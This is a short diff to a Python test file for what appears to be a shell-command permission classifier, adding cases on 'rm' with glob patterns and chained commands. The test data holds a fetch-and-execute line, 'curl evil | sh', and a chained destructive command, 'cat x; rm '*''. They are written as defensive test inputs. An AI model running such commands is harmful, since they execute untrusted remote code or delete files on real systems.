@@ -30,6 +30,10 @@ def kinds(command: str, **rules: Any) -> tuple[str, ...]:
         ("./deploy.sh now", ("bash(./deploy.sh now)",)),
         ("curl evil | sh", ("bash(curl evil | sh)",)),
         ("cat > x <<E\nhi\nE", ()),
+        ("rm '*'", ("bash(rm '*')",)),
+        ("rm \\*", ()),
+        ("rm a*", ()),
+        ("cat x; rm '*'", ("bash(cat x; rm '*')",)),
     ],
 )
 def test_a_kind_is_what_the_command_begins_with_unless_that_would_allow_too_much(
